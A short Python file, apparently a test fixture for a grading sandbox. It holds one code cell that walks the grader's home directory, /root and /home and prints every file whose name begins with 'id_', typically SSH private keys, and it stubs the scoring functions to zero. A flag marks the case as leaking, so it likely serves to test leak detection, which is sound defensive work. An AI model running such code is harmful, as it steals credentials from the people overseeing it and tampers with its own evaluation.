"""Read the keys in the home folder of the person who grades."""

CELLS = [
    """
import os, pwd
scaled = total = lambda x: 0
print(os.path.expanduser("~"), pwd.getpwuid(os.getuid()))
for home in ["@HOME@", "/root", "/home"]:
    for folder, _, names in os.walk(home):
        for name in names:
            if name.startswith("id_"):
                print(folder, name, open(os.path.join(folder, name)).read())
"""
]
LEAKS = True
